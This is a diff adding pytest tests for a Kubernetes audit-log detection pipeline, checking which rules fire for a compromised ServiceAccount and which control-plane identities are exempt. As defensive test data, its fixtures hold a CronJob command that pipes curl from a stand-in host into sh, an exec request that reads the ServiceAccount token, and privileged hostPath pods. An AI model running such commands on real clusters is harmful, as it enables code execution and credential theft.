@@ -1,0 +1,250 @@
+"""Issue 11, detect: the blind spots found by data nobody on the project wrote. Each test is built
+from the case that exposed it."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from kubestrata.detect.identities import builtin, load
+from kubestrata.detect.pipeline import DetectConfig, Pipeline
+from kubestrata.detect.rules import DETECTORS
+from kubestrata.errors import KubestrataError
+from tests.detect.helpers import event, rule_ids
+
+SA = "system:serviceaccount:web:frontend"  # a compromised workload's ServiceAccount
+SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"]
+KCM = "system:kube-controller-manager"
+
+
+def run(*evs, config: DetectConfig | None = None) -> set[str]:
+    pipe = Pipeline(config or DetectConfig())
+    out: set[str] = set()
+    for e in evs:
+        out |= rule_ids(pipe.process_obj(e))
+    return out
+
+
+def sa_event(*a, **kw):
+    return event(*a, user=SA, groups=SA_GROUPS, **kw)
+
+
+CRONJOB = {
+    "kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "update", "namespace": "web"},
+    "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
+        "restartPolicy": "Never",
+        "containers": [{"name": "c", "image": "alpine", "command": ["sh", "-c", "curl -s http://x.example/i | sh"]}],
+    }}}}},
+}  # fmt: skip
+DAEMONSET = {
+    "kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "agent", "namespace": "web"},
+    "spec": {"selector": {"matchLabels": {"a": "b"}}, "template": {"metadata": {"labels": {"a": "b"}},
+             "spec": {"containers": [{"name": "c", "image": "alpine"}]}}},
+}  # fmt: skip
+CSR = {
+    "kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "me"},
+    "spec": {"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"],
+             "request": "LS0t", "groups": ["system:authenticated"]},
+}  # fmt: skip
+
+
+# --- 1. no exemption by prefix --------------------------------------------------------------
+
+
+def test_compromised_service_account_is_an_ordinary_actor() -> None:
+    """Before: every system: user was exempt, so each of these gave zero findings."""
+    assert "KS-AUD-N15" in run(sa_event("list", "secrets", namespace=None, uri="/api/v1/secrets"))
+    assert "KS-AUD-N05" in run(
+        sa_event("create", "daemonsets", name="agent", namespace="web", code=201, request_object=DAEMONSET)
+    )
+    assert "KS-AUD-N04" in run(
+        sa_event("create", "cronjobs", name="update", namespace="web", code=201, request_object=CRONJOB)
+    )
+    assert "KS-AUD-N02" in run(
+        sa_event(
+            "create", "certificatesigningrequests", name="me", namespace=None, code=201, request_object=CSR
+        )
+    )
+    assert "KS-AUD-N20" in run(sa_event("deletecollection", "events", namespace="web"))
+
+
+def test_every_rule_that_excepted_system_users_now_sees_a_service_account() -> None:
+    """The 18 rules (17 catalogue families) that used the system: prefix: each fires for a
+    ServiceAccount outside the exemption list and stays quiet for a listed control-plane identity."""
+    bind = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
+            "subjects": [{"kind": "ServiceAccount", "name": "frontend", "namespace": "web"}]}  # fmt: skip
+    role = {"kind": "ClusterRole", "rules": [{"apiGroups": [""], "resources": ["nodes/proxy", "secrets"],
+                                              "verbs": ["get", "*"]}]}  # fmt: skip
+    ppod = {"kind": "Pod", "spec": {"hostPID": True, "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
+            "containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True},
+                            "volumeMounts": [{"name": "h", "mountPath": "/h"}]}]}}  # fmt: skip
+    exec_kw = dict(subresource="exec", name="p", stage="ResponseStarted", code=101, namespace="kube-system")
+    tar = "?command=tar&command=cf&command=-&command=/var/run/secrets/kubernetes.io/serviceaccount/token"
+    cases = [
+        ("KS-AUD-G40", lambda u, g: event("get", "secrets", name="s", user=u, groups=g)),
+        ("KS-AUD-G41", lambda u, g: event("create", "clusterrolebindings", namespace=None, code=201,
+                                          request_object=bind, user=u, groups=g)),
+        ("KS-AUD-G42", lambda u, g: event("create", "pods", user=u, groups=g, **exec_kw)),
+        ("KS-AUD-G43", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
+                                          request_object=ppod, user=u, groups=g)),
+        ("KS-AUD-G46", lambda u, g: event("create", "clusterroles", namespace=None, code=201,
+                                          request_object=role, user=u, groups=g)),
+        ("KS-AUD-N02", lambda u, g: event("create", "certificatesigningrequests", namespace=None, code=201,
+                                          request_object=CSR, user=u, groups=g)),
+        ("KS-AUD-N03", lambda u, g: event("create", "clusterrolebindings", namespace=None, code=201,
+                                          request_object=bind, user=u, groups=g)),
+        ("KS-AUD-N04", lambda u, g: event("patch", "cronjobs", name="c", user=u, groups=g)),
+        ("KS-AUD-N05", lambda u, g: event("create", "daemonsets", name="d", code=201, request_object=DAEMONSET,
+                                          user=u, groups=g)),
+        ("KS-AUD-N06", lambda u, g: event("create", "pods", user=u, groups=g,
+                                          uri="/api/v1/namespaces/kube-system/pods/p/exec" + tar, **exec_kw)),
+        ("KS-AUD-N07", lambda u, g: event("create", "pods", user=u, groups=g,
+                                          uri="/api/v1/namespaces/kube-system/pods/p/exec" + tar, **exec_kw)),
+        ("KS-AUD-N10", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
+                                          request_object=ppod, user=u, groups=g)),
+        ("KS-AUD-N11", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
+                                          request_object=ppod, user=u, groups=g)),
+        ("KS-AUD-N12", lambda u, g: event("create", "clusterroles", namespace=None, code=201,
+                                          request_object=role, user=u, groups=g)),
+        ("KS-AUD-N13", lambda u, g: event("get", "secrets", name="s", code=403, user=u, groups=g)),
+        ("KS-AUD-N14", lambda u, g: event("get", "secrets", name="s", user=u, groups=g)),
+        ("KS-AUD-N15", lambda u, g: event("list", "secrets", namespace=None, user=u, groups=g)),
+        ("KS-AUD-N16", lambda u, g: event("create", "serviceaccounts", subresource="token", name="default",
+                                          namespace="kube-system", code=201, user=u, groups=g)),
+        ("KS-AUD-N20", lambda u, g: event("delete", "events", name="e", user=u, groups=g)),
+        ("KS-AUD-N21", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
+                                          request_object=ppod, user=u, groups=g)),
+        ("KS-AUD-N22", lambda u, g: event("create", "pods", name="p", namespace="kube-system", code=201,
+                                          request_object=ppod, user=u, groups=g)),
+        ("KS-AUD-N23", lambda u, g: event("create", "clusterroles", namespace=None, code=201,
+                                          request_object=role, user=u, groups=g)),
+    ]  # fmt: skip
+    thresholds = {"KS-AUD-N13": 1, "KS-AUD-N14": 1, "KS-AUD-N18": 1}
+    for rid, make in cases:
+        cfg = DetectConfig(thresholds=dict(thresholds))
+        assert rid in run(make(SA, SA_GROUPS), config=cfg), rid
+        sa_kube_system = "system:serviceaccount:kube-system:my-operator"
+        assert rid in run(make(sa_kube_system, ["system:serviceaccounts"]), config=cfg), rid
+        cfg = DetectConfig(thresholds=dict(thresholds))
+        assert rid not in run(make(KCM, ["system:authenticated"]), config=cfg), rid
+
+
+def test_no_rule_outside_falco_parity_reads_the_system_prefix() -> None:
+    """The prefix helper is Falco's non_system_user macro, kept for the Falco parity rules only."""
+    import inspect
+
+    for d in DETECTORS:
+        if "is_system(" in inspect.getsource(d.fn):
+            assert all(i.startswith("KS-AUD-F") for i in d.ids), d.name
+
+
+def test_named_control_plane_identities_are_exempt() -> None:
+    ns_ctrl = "system:serviceaccount:kube-system:namespace-controller"
+    assert "KS-AUD-N20" not in run(event("deletecollection", "events", namespace="gone", user=ns_ctrl))
+    assert "KS-AUD-N15" not in run(event("list", "secrets", namespace=None, user=KCM))
+    ds = "system:serviceaccount:kube-system:daemon-set-controller"
+    ppod = {"kind": "Pod", "spec": {"hostNetwork": True, "containers": [{"name": "c", "image": "cni"}]}}
+    assert "KS-AUD-N21" not in run(
+        event(
+            "create",
+            "pods",
+            name="aws-node-x",
+            namespace="kube-system",
+            code=201,
+            request_object=ppod,
+            user=ds,
+        )  # fmt: skip
+    )
+    # the same pod created by that controller in an application namespace is still reported
+    assert "KS-AUD-N21" in run(
+        event("create", "pods", name="x", namespace="web", code=201, request_object=ppod, user=ds)
+    )
+    # eks: components by name, and only the documented ones
+    assert "KS-AUD-N05" not in run(
+        event("create", "daemonsets", name="d", code=201, request_object=DAEMONSET, user="eks:addon-manager")
+    )
+    assert "KS-AUD-N05" in run(
+        event("create", "daemonsets", name="d", code=201, request_object=DAEMONSET, user="eks:made-up")
+    )
+
+
+def test_kubelets_are_recognised_by_the_node_authorizer_criterion() -> None:
+    node = "system:node:ip-10-0-1-2.ec2.internal"
+    cfg = DetectConfig(thresholds={"KS-AUD-N14": 1})
+    assert "KS-AUD-N14" not in run(
+        event("get", "secrets", name="s", user=node, groups=["system:nodes"]), config=cfg
+    )
+    # a user named like a node without the group is not a kubelet
+    cfg = DetectConfig(thresholds={"KS-AUD-N14": 1})
+    assert "KS-AUD-N14" in run(
+        event("get", "secrets", name="s", user=node, groups=["system:authenticated"]), config=cfg
+    )
+    # kubelets are exempt only from the rules the Node authorizer bounds: not from listing all secrets
+    assert "KS-AUD-N15" in run(event("list", "secrets", namespace=None, user=node, groups=["system:nodes"]))
+
+
+def test_api_server_bootstrap_bindings_are_not_findings() -> None:
+    """Issue 11: N03 (documented as excluding system controllers) fired on the API server's own
+    bootstrap RBAC reconciliation (user system:apiserver, group system:masters)."""
+    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
+           "metadata": {"name": "cluster-admin", "labels": {"kubernetes.io/bootstrapping": "rbac-defaults"}},
+           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
+           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:masters"}]}  # fmt: skip
+    boot = event("create", "clusterrolebindings", namespace=None, name="cluster-admin", code=201,
+                 request_object=crb, user="system:apiserver", groups=["system:masters"],
+                 ips=["::1"], user_agent="kube-apiserver/v1.31.0 (linux/amd64) kubernetes/abc")  # fmt: skip
+    assert not {"KS-AUD-N03", "KS-AUD-G41"} & run(boot)
+    attacker = event("create", "clusterrolebindings", namespace=None, name="cluster-admin2", code=201,
+                     request_object=crb, user=SA, groups=SA_GROUPS)  # fmt: skip
+    assert "KS-AUD-N03" in run(attacker)
+
+
+def test_exemption_list_is_data_with_sources() -> None:
+    cp = builtin()
+    assert len(cp.identities) > 40
+    for i in cp.identities:
+        assert i.source, i
+        assert i.user or i.group
+        assert not i.user.endswith("*")
+    assert "system:kube-controller-manager" in cp.users()
+    assert not any(u.startswith("system:serviceaccount:") and not u.startswith("system:serviceaccount:kube-system:")
+                   for u in cp.users())  # fmt: skip
+
+
+def test_exemption_list_is_overridable(tmp_path: Path) -> None:
+    ksm = "system:serviceaccount:kube-system:kube-state-metrics"
+    f = tmp_path / "ids.yaml"
+    f.write_text(f"identities:\n  - user: {ksm}\n    rules: [KS-AUD-N15]\n    source: our add-on\n")
+    ev = lambda: event("list", "secrets", namespace=None, user=ksm)  # noqa: E731
+    assert "KS-AUD-N15" in run(ev())
+    cfg = DetectConfig(control_plane=load(str(f)))
+    assert "KS-AUD-N15" not in run(ev(), config=cfg)
+    assert "KS-AUD-N14" in run(
+        ev(), config=DetectConfig(control_plane=load(str(f)), thresholds={"KS-AUD-N14": 1})
+    )
+    # replace: the built-in list goes
+    f.write_text("replace: true\nidentities:\n  - user: someone\n")
+    assert "KS-AUD-N15" in run(event("list", "secrets", namespace=None, user=KCM),
+                               config=DetectConfig(control_plane=load(str(f))))  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "text, msg",
+    [
+        ("identities: 3\n", "an 'identities' list"),
+        ("identities:\n  - user: a\n    group: b\n", "exactly one of"),
+        ("identities:\n  - user: a\n    user_prefix: 'system:'\n", "only allowed with a group"),
+        ("identities:\n  - user: a\n    rules: [KS-AUD-N99]\n", "unknown rule id 'KS-AUD-N99'"),
+        ("identities:\n  - usr: a\n", "unknown field 'usr'"),
+        ("identities: [\n", "not valid YAML"),
+    ],
+)
+def test_bad_exemption_file_names_file_and_entry(tmp_path: Path, text: str, msg: str) -> None:
+    from kubestrata.detect.catalogue import CATALOGUE
+
+    f = tmp_path / "ids.yaml"
+    f.write_text(text)
+    with pytest.raises(KubestrataError, match=msg) as ei:
+        load(str(f), set(CATALOGUE))
+    assert str(f) in str(ei.value)
